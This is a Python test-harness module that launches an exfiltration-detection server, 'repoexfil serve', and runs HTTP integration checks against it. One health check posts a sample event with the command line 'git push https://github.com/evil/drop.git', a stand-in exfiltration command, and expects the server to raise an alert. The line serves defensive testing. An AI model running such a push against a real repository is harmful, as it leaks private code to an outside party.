"""rxharness: runs the real `repoexfil serve` on a free loopback port for the
HTTP integration tests. Python 3 standard library only.

    from rxharness import Server, Tally, request
    T = Tally()
    with Server("--workers", "2") as srv:
        r = srv.request("POST", "/events", b"[]",
                        {"Content-Type": "application/json"})
        T.check(r.status == 200, "empty array")
    sys.exit(T.finish())

The server is started with `serve --listen 127.0.0.1:0`; the port comes
from its {"msg":"listening","port":N} log line on stderr. Every stderr line
is kept (parsed when it is JSON) in `srv.logs`. `srv.stop()` sends SIGTERM
and returns the exit status. Environment: REPOEXFIL_BIN (the binary),
RX_SANITIZE=ON (ASan/UBSan build: every timeout is multiplied by SLOW),
REPOEXFIL_WRAPPER (optional command prefixed to the binary, split like a
shell would, e.g. "valgrind --error-exitcode=99 ..."; unset: none),
RX_VALGRIND=1 (the binary runs under valgrind: timeouts are multiplied by
SLOW = 30 and tests shrink their loads; see tests/valgrind.sh).
"""
import http.client
import json
import os
import shlex
import signal
import socket
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
SRC = os.environ.get("RX_SOURCE_DIR") or os.path.abspath(
    os.path.join(HERE, "..", ".."))
BIN = os.environ.get("REPOEXFIL_BIN") or os.path.join(SRC, "build",
                                                      "repoexfil")
TEST_DATA = os.environ.get("RX_TEST_DATA") or os.path.join(SRC, "tests",
                                                           "data")
SANITIZE = os.environ.get("RX_SANITIZE", "").upper() in ("ON", "1", "TRUE",
                                                        "YES")
VALGRIND = os.environ.get("RX_VALGRIND", "").upper() in ("ON", "1", "TRUE",
                                                       "YES")
# A command prefixed to every run of the binary (valgrind, strace...).
WRAPPER = shlex.split(os.environ.get("REPOEXFIL_WRAPPER", ""))
# Timeout multiplier for sanitizer builds and valgrind runs.
SLOW = 30 if VALGRIND else 8 if SANITIZE else 1


def t(seconds):
    """A timeout scaled for the build under test."""
    return seconds * SLOW


class Response:
    def __init__(self, status, headers, body):
        self.status = status
        self.headers = {k.lower(): v for k, v in headers}
        self.body = body

    def header(self, name):
        return self.headers.get(name.lower())

    def json(self):
        try:
            return json.loads(self.body)
        except ValueError:
            return None

    def __repr__(self):
        return "<%d %r>" % (self.status, self.body[:200])


def request(port, method, path, body=None, headers=None, timeout=10,
            conn=None):
    """One HTTP request on a new connection (or on conn, kept open).
    Returns a Response; raises OSError/http.client errors on failure."""
    own = conn is None
    if own:
        conn = http.client.HTTPConnection("127.0.0.1", port,
                                          timeout=t(timeout))
    try:
        if isinstance(body, str):
            body = body.encode()
        conn.request(method, path, body=body, headers=headers or {})
        r = conn.getresponse()
        data = r.read()
        return Response(r.status, r.getheaders(), data)
    finally:
        if own:
            conn.close()


class Server:
    """One `repoexfil serve --listen 127.0.0.1:0 ARGS...`."""

    def __init__(self, *args, env=None, name="server", start=True):
        self.args = list(args)
        self.env = dict(os.environ)
        # A clean slate: no REPOEXFIL_* from the caller's environment.
        for k in list(self.env):
            if k.startswith("REPOEXFIL_") and k != "REPOEXFIL_BIN":
                del self.env[k]
        if env:
            self.env.update(env)
        if SANITIZE:
            self.env.setdefault("ASAN_OPTIONS",
                                "detect_leaks=1:abort_on_error=0")
            self.env.setdefault("UBSAN_OPTIONS", "print_stacktrace=1")
        self.name = name
        self.proc = None
        self.port = None
        self.lines = []  # raw stderr lines
        self.logs = []  # stderr lines that parsed as JSON objects
        self._lock = threading.Lock()
        self._listening = threading.Event()
        self._reader = None
        if start:
            self.start()

    def start(self):
        argv = WRAPPER + [BIN, "serve", "--listen", "127.0.0.1:0"] + self.args
        self.proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL,
                                     stdout=subprocess.DEVNULL,
                                     stderr=subprocess.PIPE, env=self.env)
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        deadline = time.time() + t(30)
        while time.time() < deadline:
            if self._listening.wait(0.05):
                break
            if self.proc.poll() is not None:
                break
        if self.port is None:
            self.kill()
            raise RuntimeError("%s: no 'listening' line; stderr:\n%s" %
                               (self.name, "\n".join(self.lines[-20:])))
        return self

    def _read(self):
        for raw in self.proc.stderr:
            line = raw.decode("utf-8", "replace").rstrip("\n")
            obj = None
            if line.startswith("{"):
                try:
                    obj = json.loads(line)
                except ValueError:
                    obj = None
            with self._lock:
                self.lines.append(line)
                if isinstance(obj, dict):
                    self.logs.append(obj)
            if (isinstance(obj, dict) and obj.get("msg") == "listening" and
                    self.port is None):
                self.port = obj.get("port")
                self._listening.set()

    def request(self, method, path, body=None, headers=None, timeout=10,
                conn=None):
        return request(self.port, method, path, body, headers, timeout, conn)

    def connection(self, timeout=10):
        return http.client.HTTPConnection("127.0.0.1", self.port,
                                          timeout=t(timeout))

    def log_lines(self, msg=None):
        with self._lock:
            return [o for o in self.logs if msg is None or o.get("msg") == msg]

    def stderr_text(self):
        with self._lock:
            return "\n".join(self.lines)

    def send_signal(self, sig=signal.SIGTERM):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(sig)

    def wait(self, timeout=30):
        """Waits for the exit and the end of stderr; returns the status
        (None if it did not exit in time)."""
        try:
            rc = self.proc.wait(t(timeout))
        except subprocess.TimeoutExpired:
            return None
        if self._reader:
            self._reader.join(t(5))
        return rc

    def stop(self, sig=signal.SIGTERM, timeout=30):
        """Sends sig, waits; returns the exit status (kills on timeout and
        returns None)."""
        if self.proc is None:
            return None
        if self.proc.poll() is None:
            self.proc.send_signal(sig)
        rc = self.wait(timeout)
        if rc is None:
            self.kill()
        return rc

    def kill(self):
        if self.proc and self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait(10)

    def sanitizer_report(self):
        """The first line of an ASan/UBSan/LSan report on stderr, or None."""
        for line in self.stderr_text().splitlines():
            if ("ERROR: AddressSanitizer" in line or
                    "ERROR: LeakSanitizer" in line or
                    "runtime error:" in line):
                return line
        return None

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.kill()
        return False


class Tally:
    """Counts checks; prints each failure and, at the end, the last line
    "N passed, M failed"."""

    def __init__(self):
        self.passed = 0
        self.failed = 0

    def check(self, ok, label, detail=""):
        if ok:
            self.passed += 1
        else:
            self.failed += 1
            print("FAIL %s%s" % (label, ": %s" % detail if detail else ""),
                  flush=True)
        return bool(ok)

    def stopped_cleanly(self, srv, label="server", timeout=30):
        rc = srv.stop(timeout=timeout)
        self.check(rc == 0, "%s: exits 0 on SIGTERM" % label,
                   "exit status %r; stderr tail:\n%s" %
                   (rc, "\n".join(srv.lines[-10:])))
        rep = srv.sanitizer_report()
        self.check(rep is None, "%s: no sanitizer report" % label, rep or "")

    def healthy(self, srv, label, port=None):
        """The server still runs and answers: GET /healthz is 200 and a
        git push is scored 3 (alert); no sanitizer report so far."""
        port = port or srv.port
        try:
            r = request(port, "GET", "/healthz", timeout=10)
            ok = r.status == 200 and (r.json() or {}).get("status") == "ok"
        except (OSError, http.client.HTTPException) as e:
            r, ok = e, False
        self.check(ok, "%s: /healthz 200 after" % label, repr(r))
        ev = {"EventID": 1, "Image": "C:\\Program Files\\Git\\cmd\\git.exe",
              "CommandLine": "git push https://github.com/evil/drop.git",
              "Computer": "WS01"}
        try:
            r = request(port, "POST", "/events?notify=false",
                        json.dumps([ev]),
                        {"Content-Type": "application/json"}, timeout=10)
            j = r.json() or {}
            res = (j.get("results") or [{}])[0]
            ok = (r.status == 200 and res.get("score") == 3 and
                  res.get("alert") is True)
        except (OSError, http.client.HTTPException) as e:
            r, ok = e, False
        self.check(ok, "%s: a normal POST is still scored" % label, repr(r))
        self.check(srv.proc.poll() is None, "%s: process still runs" % label,
                   "exit %r" % srv.proc.poll())
        rep = srv.sanitizer_report()
        self.check(rep is None, "%s: no sanitizer report" % label, rep or "")

    def finish(self):
        print("%d passed, %d failed" % (self.passed, self.failed), flush=True)
        return 1 if self.failed else 0


def free_port():
    """A port nobody listens on right now (for negative tests)."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def raw_exchange(port, data, read_timeout=10, send_body=None):
    """Sends raw bytes, then optionally more, and reads until the peer
    closes or read_timeout passes. Returns the bytes read."""
    s = socket.create_connection(("127.0.0.1", port), timeout=t(10))
    try:
        s.sendall(data)
        if send_body:
            s.sendall(send_body)
        s.settimeout(t(read_timeout))
        chunks = []
        while True:
            try:
                b = s.recv(65536)
            except socket.timeout:
                break
            if not b:
                break
            chunks.append(b)
        return b"".join(chunks)
    finally:
        s.close()


def parse_raw_response(data):
    """(status, headers dict lowercased, body bytes) of one raw answer."""
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1]) if lines and lines[0] else 0
    headers = {}
    for ln in lines[1:]:
        k, _, v = ln.partition(":")
        headers[k.strip().lower()] = v.strip()
    return status, headers, body
